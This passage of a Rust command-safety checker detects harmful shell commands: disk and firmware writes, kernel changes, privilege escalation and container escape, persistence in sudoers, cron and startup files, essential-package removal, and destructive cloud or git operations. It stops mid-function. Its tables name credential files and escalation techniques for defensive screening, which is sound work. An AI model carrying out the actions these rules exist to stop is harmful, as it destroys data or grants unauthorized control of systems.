//! Families of harm beyond deletion: disks and firmware, the kernel, privilege and
//! persistence, the system's own packages, irreversible actions on remote systems, reverse
//! shells and secrets sent out. Each is a table of programs and places, read through every
//! wrapper (the built-in rules in `builtin.rs` list them by name), and `asks` names what is
//! harmful only sometimes, so a person decides. Pure: looks at words, runs nothing.

use crate::commands::{self, basename};
use crate::walk::Found;
use crate::words::Arg;

fn name(form: &[Arg]) -> std::borrow::Cow<'_, str> {
    commands::program_name(form).unwrap_or_default()
}

/// The words after the program that do not start with `-`.
fn operands(form: &[Arg]) -> impl Iterator<Item = &Arg> {
    form.iter().skip(1).filter(|arg| !arg.text.starts_with('-'))
}

fn has(form: &[Arg], options: &[&str]) -> bool {
    form.iter().skip(1).any(|arg| {
        options.iter().any(|option| {
            arg.text == *option
                || (option.starts_with("--")
                    && arg
                        .text
                        .strip_prefix(option)
                        .is_some_and(|rest| rest.starts_with('=')))
                || (option.len() == 2
                    && !option.starts_with("--")
                    && arg.text.starts_with('-')
                    && !arg.text.starts_with("--")
                    && arg.text[1..].contains(&option[1..]))
        })
    })
}

/// A path as the rules compare it: `~`, `$HOME` and `${HOME}` read as `~`, `/proc/self/root`
/// dropped, `.` and `..` applied.
pub(crate) fn path(text: &str) -> String {
    let text = text
        .strip_prefix("$HOME")
        .or_else(|| text.strip_prefix("${HOME}"))
        .map_or_else(|| text.to_owned(), |rest| format!("~{rest}"));
    let (base, rest) = match text.strip_prefix('~') {
        Some(rest) => ("~", rest.to_owned()),
        None => ("", text.clone()),
    };
    let mut parts: Vec<&str> = Vec::new();
    for part in rest.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    if base.is_empty() && rest.starts_with('/') {
        // `/proc/self/root/etc` is `/etc`.
        if let ["proc", _, "root", tail @ ..] = parts.as_slice() {
            parts = tail.to_vec();
        }
        return format!("/{}", parts.join("/"));
    }
    if base == "~" {
        return if parts.is_empty() {
            "~".to_owned()
        } else {
            format!("~/{}", parts.join("/"))
        };
    }
    parts.join("/")
}

/// True if `path` (as [`path`] gives it) is `place` or inside it; a trailing `*` in `place`
/// matches any rest of that component.
fn under(path: &str, place: &str) -> bool {
    if let Some(prefix) = place.strip_suffix('*') {
        return path.starts_with(prefix);
    }
    path == place
        || path
            .strip_prefix(place)
            .is_some_and(|rest| rest.starts_with('/'))
}

// ---------------------------------------------------------------- disks and firmware

/// Programs that only read or describe a disk given to them.
const DISK_READERS: &[&str] = &[
    "lsblk",
    "blkid",
    "file",
    "stat",
    "ls",
    "udevadm",
    "dumpe2fs",
    "findmnt",
    "df",
    "du",
    "lsof",
    "mount",
    "umount",
    "cat",
    "head",
    "tail",
    "od",
    "xxd",
    "hexdump",
    "strings",
    "smartctl",
    "pvs",
    "vgs",
    "lvs",
    "pvdisplay",
    "vgdisplay",
    "lvdisplay",
    "eject",
    "dd",
    "dcfldd",
    "ddrescue",
    "cmp",
    "md5sum",
    "sha256sum",
    "sha1sum",
    "b2sum",
    "readlink",
    "realpath",
    "test",
    "[",
    "[[",
    "echo",
    "printf",
    "partprobe",
    "isoinfo",
    "fsck",
    "e2fsck",
    "xfs_info",
    "iostat",
    "hdparm",
    "fdisk",
    "sfdisk",
    "gdisk",
    "sgdisk",
    "parted",
    "nvme",
    "cryptsetup",
    "tune2fs",
    "blockdev",
    "badblocks",
    "zpool",
    "losetup",
    "kpartx",
    "wipefs",
    "shred",
    "blkdiscard",
    "tee",
    "mkswap",
    "cp",
    "grep",
    "sudo",
];

/// True if `form` writes to a disk device named among its words, with a program that has no
/// other rule (`qemu-img convert … /dev/sda`, `pv x -o /dev/sda`, `sgdisk --zap-all /dev/sda`).
pub(crate) fn disk_write(_: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let disk = || {
        form.iter().skip(1).any(|arg| {
            let value = arg
                .text
                .split_once('=')
                .map_or(arg.text.as_str(), |(_, v)| v);
            crate::builtin::names_disk(&Arg {
                text: value.to_owned(),
                ..arg.clone()
            })
        })
    };
    if crate::builtin::makes_file_system(&name) {
        return false;
    }
    match &*name {
        "fdisk" | "gdisk" | "cfdisk" => !has(form, &["-l", "--list"]) && disk(),
        "sfdisk" => {
            !has(
                form,
                &[
                    "-l",
                    "--list",
                    "-d",
                    "--dump",
                    "-s",
                    "--show-size",
                    "-V",
                    "--verify",
                    "-J",
                    "--json",
                ],
            ) && disk()
        }
        "sgdisk" => {
            has(
                form,
                &[
                    "-Z",
                    "--zap-all",
                    "-z",
                    "--zap",
                    "-o",
                    "--clear",
                    "-n",
                    "--new",
                    "-d",
                    "--delete",
                    "-g",
                    "--mbrtogpt",
                    "-R",
                    "--replicate",
                    "-G",
                    "--randomize-guids",
                    "-t",
                    "--typecode",
                    "-l",
                    "--load-backup",
                ],
            ) && disk()
        }
        "parted" => {
            let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
            let writes = words.iter().any(|word| {
                matches!(
                    *word,
                    "mklabel"
                        | "mktable"
                        | "mkpart"
                        | "rm"
                        | "resizepart"
                        | "mkfs"
                        | "rescue"
                        | "set"
                        | "name"
                        | "move"
                )
            });
            writes && disk()
        }
        "hdparm" => {
            form.iter().skip(1).any(|arg| {
                let text = arg.text.as_str();
                text.starts_with("--security-")
                    || text.starts_with("--trim-sector")
                    || text.starts_with("--write-sector")
                    || text.starts_with("--fwdownload")
                    || text == "--make-bad-sector"
                    || text == "--dco-restore"
                    || text == "-N"
            }) && disk()
        }
        "nvme" => {
            form.get(1).is_some_and(|sub| {
                matches!(
                    sub.text.as_str(),
                    "format"
                        | "sanitize"
                        | "fw-download"
                        | "fw-commit"
                        | "write"
                        | "write-zeroes"
                        | "delete-ns"
                        | "ns-rescan"
                )
            }) && disk()
        }
        "cryptsetup" => {
            form.iter().skip(1).any(|arg| {
                matches!(
                    arg.text.as_str(),
                    "luksFormat" | "erase" | "luksErase" | "reencrypt" | "luksKillSlot"
                )
            }) && disk()
        }
        "badblocks" => has(form, &["-w"]) && disk(),
        "zpool" => {
            form.get(1).is_some_and(|sub| {
                matches!(
                    sub.text.as_str(),
                    "create" | "labelclear" | "add" | "replace"
                )
            }) && disk()
        }
        "tune2fs" | "e2fsck" | "fsck" | "losetup" | "kpartx" => false,
        "blockdev" => false,
        _ => !DISK_READERS.contains(&&*name) && disk(),
    }
}

/// True if `form` writes firmware or the boot configuration: `flashrom -w`, `efibootmgr`
/// creating, deleting or reordering entries, `grub-install`, `fwupdmgr install`, `bootctl`
/// changing the boot loader, `mokutil` turning off validation.
pub(crate) fn firmware(_: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let sub = form.get(1).map(|arg| arg.text.as_str()).unwrap_or("");
    match &*name {
        "flashrom" => has(form, &["-w", "--write", "-E", "--erase"]),
        "efibootmgr" => has(
            form,
            &[
                "-c",
                "--create",
                "-B",
                "--delete-bootnum",
                "-o",
                "--bootorder",
                "-a",
                "--active",
                "-A",
                "--inactive",
                "-n",
                "--bootnext",
                "-C",
                "--create-only",
            ],
        ),
        "grub-install" | "grub2-install" | "lilo" | "syslinux" | "extlinux" | "efi-updatevar"
        | "sbkeysync" => true,
        "fwupdmgr" | "fwupdtool" => matches!(
            sub,
            "install"
                | "update"
                | "downgrade"
                | "reinstall"
                | "install-blob"
                | "unlock"
                | "activate"
        ),
        "bootctl" => matches!(
            sub,
            "install" | "remove" | "update" | "set-default" | "set-oneshot"
        ),
        "mokutil" => has(
            form,
            &["--disable-validation", "--import", "--delete", "--reset"],
        ),
        "dmidecode" | "biosdecode" => false,
        _ => false,
    }
}

// ---------------------------------------------------------------- the kernel

/// True if `form` changes the running kernel: loads or removes a module, sets a `sysctl`,
/// or writes under `/proc/sys`, `/sys/kernel`, `/sys/firmware`, `/sys/power`, `/dev/mem`.
pub(crate) fn kernel(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    let changes = match &*name {
        // `insmod` loads any file as kernel code; `modprobe` loads an installed module by
        // name, which container set-ups do as a matter of course.
        "insmod" | "kexec" | "rmmod" => !has(form, &["-h", "--help", "-V", "--version"]),
        // `exec -a insmod kmod …`: a multi-call program acts as the name it is given.
        "exec" => form.windows(2).any(|pair| {
            pair[0].text == "-a" && matches!(pair[1].text.as_str(), "insmod" | "rmmod" | "kexec")
        }),
        "modprobe" => operands(form).any(|arg| arg.text.contains('/')),
        "kmod" => form.get(1).is_some_and(|sub| {
            matches!(sub.text.as_str(), "load" | "unload" | "insert" | "remove")
        }),
        "sysctl" => {
            has(form, &["-w", "--write", "-p", "--load", "--system"])
                || operands(form).any(|arg| arg.text.contains('='))
        }
        _ => false,
    };
    changes
        || written_paths(found, form)
            .iter()
            .any(|target| is_kernel_place(target))
}

fn is_kernel_place(target: &str) -> bool {
    [
        "/proc/sys",
        "/sys/block",
        "/sys/bus",
        "/sys/devices",
        "/sys/class",
        "/sys/kernel",
        "/sys/firmware",
        "/sys/power",
        "/sys/module",
        "/dev/mem",
        "/dev/kmem",
        "/dev/port",
        "/proc/sysrq-trigger",
        "/proc/kcore",
    ]
    .iter()
    .any(|place| under(target, place))
}

// ---------------------------------------------------------------- privilege, persistence

/// Places whose change gives privileges or runs code later, for anyone or at login.
const PERSISTENT_PLACES: &[&str] = &[
    "/etc/sudoers",
    "/etc/sudoers.d",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/ld.so.preload",
    "/etc/ld.so.conf",
    "/etc/ld.so.conf.d",
    "/etc/crontab",
    "/etc/cron.d",
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/var/spool/cron",
    "/etc/systemd",
    "/lib/systemd/system",
    "/usr/lib/systemd",
    "/etc/init.d",
    "/etc/rc.local",
    "/etc/profile",
    "/etc/profile.d",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/zsh",
    "/etc/environment",
    "/etc/security",
    "/etc/pam.d",
    "/etc/ssh",
    "/etc/xdg/autostart",
    "/etc/modules",
    "/etc/modules-load.d",
    "/etc/modprobe.d",
    "/etc/udev/rules.d",
    "/etc/update-motd.d",
    "/etc/apt/apt.conf.d",
    "/etc/polkit-1",
    "/boot",
    "/etc/fstab",
    "/etc/crypttab",
    "/etc/default/grub",
    "/etc/grub.d",
    "/etc/inittab",
    "/etc/initramfs-tools",
    "/etc/cron.allow",
    "/etc/at.allow",
    "/etc/anacrontab",
    "~/.ssh/authorized_keys",
    "~/.ssh/authorized_keys2",
    "~/.ssh/rc",
    "~/.ssh/environment",
    "~/.config/systemd",
    "~/.config/autostart",
    "~/.local/share/systemd",
    "~/.config/upstart",
    "~/.pam_environment",
    "~/.config/environment.d",
];

/// The user's shell start-up files and the configuration of tools that run commands from it:
/// a write there runs at the next login or the next use of the tool.
const STARTUP_FILES: &[&str] = &[
    "~/.bashrc",
    "~/.bash_profile",
    "~/.bash_login",
    "~/.bash_logout",
    "~/.profile",
    "~/.zshrc",
    "~/.zprofile",
    "~/.zshenv",
    "~/.zlogin",
    "~/.zlogout",
    "~/.config/fish",
    "~/.xprofile",
    "~/.xinitrc",
    "~/.xsession",
    "~/.gitconfig",
    "~/.config/git",
    "~/.ssh/config",
    "~/.inputrc",
    "~/.npmrc",
    "~/.yarnrc",
    "~/.cshrc",
    "~/.tcshrc",
    "~/.kshrc",
    "~/.mkshrc",
    "~/.config/nvim",
    "~/.vimrc",
    "~/.emacs",
    "~/.config/direnv",
    "~/.envrc",
];

/// True if `form` makes a file set-user-ID or set-group-ID, or gives it capabilities.
pub(crate) fn privilege(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    match &*name {
        "chmod" => {
            operands(form)
                .next()
                .is_some_and(|mode| sets_id_bit(&mode.text))
                || form.iter().skip(1).any(|arg| {
                    arg.text.starts_with('-')
                        && sets_id_bit(&arg.text[1..])
                        && arg.text.contains('s')
                })
        }
        "setcap" => !has(form, &["-v", "-h"]),
        "install" => {
            form.iter().skip(1).any(|arg| {
                arg.text
                    .strip_prefix("--mode=")
                    .or_else(|| arg.text.strip_prefix("-m"))
                    .is_some_and(sets_id_bit)
            }) || form
                .windows(2)
                .any(|pair| pair[0].text == "-m" && sets_id_bit(&pair[1].text))
        }
        "usermod" | "gpasswd" | "adduser" | "addgroup" | "useradd" => {
            form.iter().skip(1).any(|arg| {
                arg.text.split(',').any(|group| {
                    matches!(
                        group,
                        "sudo"
                            | "wheel"
                            | "admin"
                            | "root"
                            | "docker"
                            | "disk"
                            | "shadow"
                            | "lxd"
                            | "libvirt"
                            | "adm"
                    )
                })
            }) || (name == "useradd" && has(form, &["-o", "--non-unique"]))
                || (name == "usermod"
                    && form.windows(2).any(|pair| {
                        matches!(pair[0].text.as_str(), "-u" | "--uid") && pair[1].text == "0"
                    }))
        }
        "visudo" | "vipw" | "vigr" | "chpasswd" | "newusers" => true,
        // A root shell, or the namespaces of init: root on the host.
        "pkexec" => form
            .iter()
            .skip(1)
            .any(|arg| commands::is_shell(basename(&arg.text))),
        // A shell in init's namespaces: root on the host from inside a container.
        "nsenter" => {
            let init = form.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-t" | "--target") && pair[1].text == "1"
            }) || form
                .iter()
                .any(|arg| arg.text == "--target=1" || arg.text == "-t1");
            let shell = commands::wrapped_command(form)
                .and_then(|at| form.get(at))
                .is_some_and(|program| commands::is_shell(basename(&program.text)));
            init && shell
        }
        "kubectl" | "oc" => form.iter().any(|arg| {
            let text = arg.text.replace(' ', "");
            text.contains("\"privileged\":true")
                || text.contains("\"hostPID\":true")
                || text.contains("hostPath")
                || text.contains("cluster-admin")
        }),
        "docker" | "podman" | "nerdctl" => {
            host_into_container(form)
                || form
                    .iter()
                    .any(|arg| matches!(arg.text.as_str(), "--pid=host" | "--userns=host"))
                    && form.iter().any(|arg| arg.text == "--privileged")
        }
        "passwd" => operands(form).any(|arg| arg.text == "root") || has(form, &["-d", "--delete"]),
        "ln" | "cp" | "mv" => {
            let operands: Vec<&Arg> = operands(form).collect();
            let from_scratch = operands.first().is_some_and(|source| {
                let source = path(&source.text);
                ["/tmp/", "/dev/shm/", "/var/tmp/"]
                    .iter()
                    .any(|place| source.starts_with(place))
            });
            written_paths(found, form).iter().any(|target| {
                PERSISTENT_PLACES.iter().any(|place| under(target, place))
                    || (from_scratch && shadows_a_program(target))
            })
        }
        _ => written_paths(found, form).iter().any(|target| {
            PERSISTENT_PLACES.iter().any(|place| under(target, place)) || shadows_a_program(target)
        }),
    }
}

/// True if `form` runs a container given the host's root, its configuration or the
/// container engine's socket (`docker run -v /:/host …`): root on the host.
fn host_into_container(form: &[Arg]) -> bool {
    const HOST: &[&str] = &[
        "~",
        "/",
        "/etc",
        "/root",
        "/boot",
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/podman/podman.sock",
        "/proc",
        "/sys",
        "/dev",
        "/usr",
        "/var",
    ];
    form.windows(2).any(|pair| {
        let value = match pair[0].text.as_str() {
            "-v" | "--volume" => Some(pair[1].text.as_str()),
            _ => None,
        };
        let value = value
            .or_else(|| pair[0].text.strip_prefix("--volume="))
            .or_else(|| {
                pair[0]
                    .text
                    .strip_prefix("-v")
                    .filter(|rest| rest.starts_with('/'))
            });
        value.is_some_and(|value| {
            HOST.contains(&path(value.split(':').next().unwrap_or("")).as_str())
        })
    }) || form.iter().any(|arg| {
        arg.text.starts_with("--mount=")
            && (arg.text.contains("source=/,")
                || arg.text.contains("src=/,")
                || arg.text.ends_with("source=/")
                || arg.text.ends_with("src=/"))
    })
}

/// Programs a copy in a `PATH` directory would stand in for.
const SHADOWED: &[&str] = &[
    "git",
    "ls",
    "sudo",
    "su",
    "ssh",
    "scp",
    "cat",
    "curl",
    "wget",
    "python",
    "python3",
    "node",
    "npm",
    "npx",
    "bash",
    "sh",
    "zsh",
    "cp",
    "mv",
    "rm",
    "make",
    "cargo",
    "rustc",
    "go",
    "docker",
    "kubectl",
    "passwd",
    "id",
    "ps",
    "top",
    "vim",
    "vi",
    "nano",
    "code",
    "which",
    "env",
    "pip",
    "pip3",
    "gpg",
    "ssh-add",
    "ssh-agent",
    "tar",
    "find",
    "grep",
    "sed",
    "awk",
    "gh",
    "aws",
];

/// True if `target` puts a program named like a common one into a `PATH` directory
/// (`~/.local/bin/git`), where it would run instead of the real one.
fn shadows_a_program(target: &str) -> bool {
    let directory = target
        .rsplit_once('/')
        .map_or("", |(directory, _)| directory);
    [
        "~/.local/bin",
        "~/bin",
        "/usr/local/bin",
        "/usr/local/sbin",
        "/usr/bin",
        "/bin",
        "/usr/sbin",
        "/sbin",
    ]
    .contains(&directory)
        && SHADOWED.contains(&basename(target))
}

/// True if a `chmod` mode sets the set-user-ID or set-group-ID bit (`u+s`, `4755`, `+s`).
fn sets_id_bit(mode: &str) -> bool {
    if mode.bytes().all(|byte| byte.is_ascii_digit()) && mode.len() >= 4 {
        let special = mode.as_bytes()[mode.len() - 4];
        return matches!(special, b'2' | b'4' | b'6' | b'3' | b'5' | b'7');
    }
    mode.split(',').any(|clause| {
        clause
            .split_once(['+', '='])
            .is_some_and(|(who, what)| !who.contains('o') && what.contains('s'))
    })
}

/// True if `form` installs a job that runs later: `crontab FILE` or `crontab -` (not
/// `-l`), `at`, `batch`, `systemctl enable` of a user or system unit written elsewhere.
pub(crate) fn persistence(found: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    match &*name {
        "crontab" => !has(form, &["-l", "-r", "-e", "-V", "--help"]) || has(form, &["-"]),
        "at" | "batch" => !has(form, &["-l", "-d", "-r", "-c", "-V"]),
        "systemctl" => {
            let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
            words.iter().any(|word| matches!(*word, "link" | "preset"))
                || (words.contains(&"enable") && words.contains(&"--now"))
                || words.iter().any(|word| {
                    word.ends_with(".service") && (word.starts_with('/') || word.starts_with('.'))
                }) && words.contains(&"enable")
        }
        "loginctl" => form.get(1).is_some_and(|sub| sub.text == "enable-linger"),
        _ => startup_write(found, form) == Some(true),
    }
}

/// For a command writing a shell start-up file: `Some(true)` if what it writes does more
/// than set the environment (`export`, `alias`, `source`, assignments, comments), `Some(false)`
/// if that is all it does, `None` if it writes none or what it writes is not known.
fn startup_write(found: &Found, form: &[Arg]) -> Option<bool> {
    let targets = written_paths(found, form);
    if !targets
        .iter()
        .any(|target| STARTUP_FILES.iter().any(|place| under(target, place)))
    {
        return None;
    }
    let text = written_text(found, form)?;
    Some(!text.lines().all(sets_environment_only))
}

/// What `form` writes when it is known: `echo`/`printf` words, or a here-document's text.
fn written_text(found: &Found, form: &[Arg]) -> Option<String> {
    if let Some(body) = found
        .redirects
        .iter()
        .find_map(|redirect| redirect.body.clone())
    {
        return Some(body);
    }
    match &*name(form) {
        "echo" | "printf" => Some(
            form.iter()
                .skip(1)
                .filter(|arg| !arg.text.starts_with('-'))
                .map(|arg| arg.text.replace("\\n", "\n"))
                .collect::<Vec<_>>()
                .join(" "),
        ),
        _ => None,
    }
}

/// True for a start-up line that only sets the environment or loads a file.
fn sets_environment_only(line: &str) -> bool {
    let line = line.trim();
    let first = line.split_whitespace().next().unwrap_or("");
    line.is_empty()
        || line.starts_with('#')
        || matches!(
            first,
            "export"
                | "alias"
                | "source"
                | "."
                | "unalias"
                | "set"
                | "shopt"
                | "umask"
                | "bind"
                | "complete"
                | "fpath+=("
                | "setopt"
                | "autoload"
        )
        || (commands::is_assignment(first)
            && !line.contains("$(")
            && !line.contains('`')
            && !line.contains(';'))
        || (line.starts_with("eval \"$(")
            && line.contains(" init")
            && !line.contains("curl")
            && !line.contains("wget"))
        || (line.starts_with("[ -") && line.contains("] && . ")
            || line.starts_with("[ -") && line.contains("] && source "))
}

/// A reason to ask when `form` writes a shell start-up file with text that is not known.
pub(crate) fn startup_write_unseen(found: &Found) -> Option<String> {
    found.each_form().find_map(|form| {
        let targets = written_paths(found, form);
        let startup = targets.iter().any(|target| STARTUP_FILES.iter().any(|place| under(target, place)));
        (startup && written_text(found, form).is_none()).then(|| {
            "this changes a shell start-up or tool configuration file with text that cannot be seen here; it would run in later sessions".to_owned()
        })
    })
}

/// Paths `form` writes: redirections, `tee`, the last operand of `cp`/`mv`/`install`/`ln`,
/// `dd of=`, `sed -i` files, `truncate`.
pub(crate) fn written_paths(found: &Found, form: &[Arg]) -> Vec<String> {
    const WRITERS: &[&str] = &[
        "tee", "truncate", "touch", "sponge", "cp", "mv", "install", "ln", "rsync", "scp", "dd",
        "sed", "perl", "find",
    ];
    if !found.redirects.iter().any(|redirect| redirect.writes())
        && form
            .first()
            .is_none_or(|first| !WRITERS.contains(&basename(&first.text)))
    {
        return Vec::new();
    }
    let spelled = |text: &str| home_of_someone(&path(&crate::builtin::home_spellings(text)));
    let mut paths: Vec<String> = found
        .redirects
        .iter()
        .filter(|redirect| redirect.writes())
        .map(|redirect| spelled(&redirect.target.text))
        .collect();
    let name = name(form);
    let operands: Vec<&Arg> = operands(form).collect();
    match &*name {
        "tee" | "truncate" | "touch" | "sponge" => {
            paths.extend(operands.iter().map(|arg| spelled(&arg.text)))
        }
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" if operands.len() >= 2 => {
            if let Some(last) = operands.last() {
                paths.push(path(&last.text));
            }
        }
        "dd" => paths.extend(
            form.iter()
                .filter_map(|arg| arg.text.strip_prefix("of="))
                .map(path),
        ),
        // `find -fprint FILE` (and -fls, -fprintf, -fprint0) empties FILE and writes it.
        "find" => paths.extend(
            form.windows(2)
                .filter(|pair| {
                    matches!(
                        pair[0].text.as_str(),
                        "-fprint" | "-fprint0" | "-fls" | "-fprintf"
                    )
                })
                .map(|pair| spelled(&pair[1].text)),
        ),
        "sed" | "perl"
            if form
                .iter()
                .any(|arg| arg.text.starts_with("-i") || arg.text == "--in-place") =>
        {
            paths.extend(operands.iter().skip(1).map(|arg| path(&arg.text)));
        }
        _ => {}
    }
    paths
}

// ---------------------------------------------------------------- the system's packages

/// Packages the system cannot run without.
const ESSENTIAL_PACKAGES: &[&str] = &[
    "libc6",
    "libc-bin",
    "glibc",
    "glibc-common",
    "musl",
    "bash",
    "dash",
    "coreutils",
    "dpkg",
    "apt",
    "rpm",
    "yum",
    "dnf",
    "pacman",
    "systemd",
    "systemd-sysv",
    "init",
    "login",
    "passwd",
    "util-linux",
    "base-files",
    "base-passwd",
    "debianutils",
    "sed",
    "grep",
    "tar",
    "gzip",
    "findutils",
    "diffutils",
    "perl-base",
    "libpam-modules",
    "libpam-runtime",
    "sudo",
    "linux-image-generic",
    "kernel",
    "kernel-core",
    "grub-pc",
    "grub2",
    "grub-efi-amd64",
    "e2fsprogs",
    "mount",
    "ncurses-base",
    "zlib1g",
    "libselinux1",
    "libstdc++6",
    "libgcc-s1",
    "apk-tools",
    "busybox",
    "filesystem",
    "shadow",
    "shadow-utils",
    "openssl",
    "ca-certificates",
];

/// True if `form` removes a package the system needs, or removes one with the package
/// manager's safety checks forced off.
pub(crate) fn system_packages(_: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    if !matches!(
        &*name,
        "apt"
            | "apt-get"
            | "aptitude"
            | "yum"
            | "dnf"
            | "zypper"
            | "microdnf"
            | "dpkg"
            | "rpm"
            | "pacman"
            | "apk"
    ) {
        return false;
    }
    let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
    let removes = match &*name {
        "apt" | "apt-get" | "aptitude" | "yum" | "dnf" | "zypper" | "microdnf" => {
            words.iter().any(|word| {
                matches!(
                    *word,
                    "remove" | "purge" | "autoremove" | "erase" | "rm" | "-R"
                )
            })
        }
        "dpkg" => words.iter().any(|word| {
            matches!(*word, "-r" | "-P" | "--remove" | "--purge") || word.starts_with("--force-")
        }),
        "rpm" => words
            .iter()
            .any(|word| *word == "-e" || *word == "--erase" || word.starts_with("-e")),
        "pacman" => words
            .iter()
            .any(|word| word.starts_with("-R") || *word == "--remove"),
        "apk" => words.iter().any(|word| matches!(*word, "del" | "delete")),
        "snap" | "flatpak" | "brew" | "port" | "nix-env" => false,
        _ => false,
    };
    if !removes {
        return false;
    }
    let forced = words.iter().any(|word| {
        word.starts_with("--force-all")
            || word.starts_with("--force-remove-essential")
            || word.starts_with("--force-depends")
            || *word == "--allow-remove-essential"
            || *word == "--nodeps"
            || (name == "pacman" && word.starts_with("-R") && word.matches('d').count() >= 2)
    });
    forced
        || words.iter().any(|word| {
            let package = word.split([':', '=']).next().unwrap_or(word);
            ESSENTIAL_PACKAGES.contains(&package)
                || package.starts_with("linux-image")
                || package.starts_with("libc6")
                || package.starts_with("python3") && package.len() <= 10 && name != "pip"
        })
}

// ---------------------------------------------------------------- remote systems

/// Branch names that a forced push or a deletion must not rewrite.
fn is_protected_branch(name: &str) -> bool {
    let name = name
        .trim_start_matches('+')
        .trim_start_matches("refs/heads/");
    matches!(
        name,
        "main" | "master" | "trunk" | "develop" | "production" | "prod" | "stable" | "HEAD"
    ) || name.starts_with("release")
}

/// True if `form` destroys something on a remote system through credentials this machine
/// holds: a forced push, deletion or mirror of a shared branch, `terraform destroy`, a
/// repository, release, cloud resource, bucket or database deleted.
pub(crate) fn remote_destroy(_: &Found, form: &[Arg]) -> bool {
    let name = name(form);
    const NAMES: &[&str] = &[
        "git",
        "terraform",
        "tofu",
        "terragrunt",
        "pulumi",
        "gh",
        "kubectl",
        "oc",
        "helm",
        "aws",
        "gsutil",
        "gcloud",
        "az",
        "doctl",
        "linode-cli",
        "hcloud",
        "scw",
        "heroku",
        "fly",
        "flyctl",
        "vercel",
        "netlify",
        "glab",
        "etcdctl",
        "consul",
        "curl",
        "http",
        "https",
        "xh",
        "firebase",
        "dropdb",
        "dropuser",
        "vault",
        "psql",
        "mysql",
        "mariadb",
        "sqlcmd",
        "cockroach",
        "clickhouse-client",
        "mongo",
        "mongosh",
        "redis-cli",
        "valkey-cli",
        "keydb-cli",
        "npm",
        "pnpm",
        "yarn",
        "s3cmd",
        "rclone",
    ];
    if !NAMES.contains(&&*name) {
        return false;
    }
    let words: Vec<&str> = form.iter().skip(1).map(|arg| arg.text.as_str()).collect();
    let has_word = |word: &str| words.contains(&word);
    match &*name {
        "git" => git_push_destroys(&words),
        "terraform" | "tofu" | "terragrunt" => {
            has_word("destroy")
                || (has_word("apply") && (has_word("-destroy") || has_word("--destroy")))
        }
        "pulumi" => has_word("destroy") || (has_word("stack") && has_word("rm")),
        "gh" => {
            (words.first() == Some(&"repo")
                && words
                    .get(1)
                    .is_some_and(|sub| matches!(*sub, "delete" | "archive")))
                || (words.first() == Some(&"release") && words.get(1) == Some(&"delete"))
                || (words.first() == Some(&"api")
                    && words.iter().any(|word| {
                        word.eq_ignore_ascii_case("delete")
                            || word.eq_ignore_ascii_case("-XDELETE")
                            || word.eq_ignore_ascii_case("--method=DELETE")
                    }))
                || (words.first() == Some(&"secret") && words.get(1) == Some(&"delete"))
        }
        "kubectl" | "oc" => {
            let deletes = has_word("delete");
            deletes
                && words.iter().any(|word| {
                    matches!(
                        *word,
                        "namespace"
                            | "namespaces"
                            | "ns"
                            | "--all"
                            | "-A"
                            | "--all-namespaces"
                            | "node"
                            | "nodes"
                            | "pv"
                            | "crd"
                            | "crds"
                            | "customresourcedefinition"
                            | "clusterrole"
                            | "clusterrolebinding"
                    ) || word.starts_with("namespace/")
                        || word.starts_with("ns/")
                        || word.starts_with("node/")
                })
        }
        "helm" => has_word("uninstall") && has_word("--all"),
        "aws" => {
            (has_word("s3") && (has_word("rb") || (has_word("rm") && has_word("--recursive"))))
                || words.iter().any(|word| {
                    word.starts_with("delete-")
                        || word.starts_with("terminate-")
                        || *word == "deregister-image"
                })
        }
        "gsutil" => {
            has_word("rb")
                || (has_word("rm")
                    && (has_word("-r")
                        || has_word("-rf")
                        || words
                            .iter()
                            .any(|w| w.ends_with("/**") || w.ends_with("/*"))))
        }
        "gcloud" | "az" | "doctl" | "linode-cli" | "hcloud" | "scw" => words
            .iter()
            .any(|word| matches!(*word, "delete" | "destroy" | "purge")),
        "heroku" => words.iter().any(|word| {
            matches!(
                *word,
                "apps:destroy" | "pg:reset" | "destroy" | "apps:delete"
            )
        }),
        "fly" | "flyctl" => {
            words.iter().any(|word| matches!(*word, "destroy"))
                || (has_word("apps") && has_word("destroy"))
        }
        "vercel" => has_word("remove") || has_word("rm"),
        "netlify" => has_word("sites:delete"),
        "glab" => has_word("repo") && has_word("delete"),
        "etcdctl" => has_word("del") && (has_word("--prefix") || has_word("--from-key")),
        "consul" => {
            has_word("kv")
                && has_word("delete")
                && words.iter().any(|word| word.starts_with("-recurse"))
        }
        "curl" | "http" | "https" | "xh" => {
            let deletes = form.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-X" | "--request")
                    && pair[1].text.eq_ignore_ascii_case("delete")
            }) || words
                .iter()
                .any(|word| word.eq_ignore_ascii_case("-XDELETE") || *word == "DELETE");
            deletes && sends_to_remote(form)
        }
        "firebase" => words
            .iter()
            .any(|word| word.ends_with(":delete") || *word == "firestore:delete"),
        // Dropping a database on another host (a local test database is everyday work).
        "dropdb" | "dropuser" => {
            form.windows(2).any(|pair| {
                matches!(pair[0].text.as_str(), "-h" | "--host") && !is_loopback(&pair[1].text)
            }) || form.iter().any(|arg| {
                arg.text
                    .strip_prefix("--host=")
                    .is_some_and(|host| !is_loopback(host))
            })
        }
        "vault" => has_word("delete") || has_word("destroy"),
        "psql" | "mysql" | "mariadb" | "sqlcmd" | "cockroach" | "clickhouse-client" => {
            words.iter().any(|word| is_destructive_sql(word))
        }
        "mongo" | "mongosh" => words
            .iter()
            .any(|word| word.contains("dropDatabase") || word.contains(".drop()")),
        // Flushing a local development server is everyday work; a named remote one is not.
        "redis-cli" | "valkey-cli" | "keydb-cli" => {
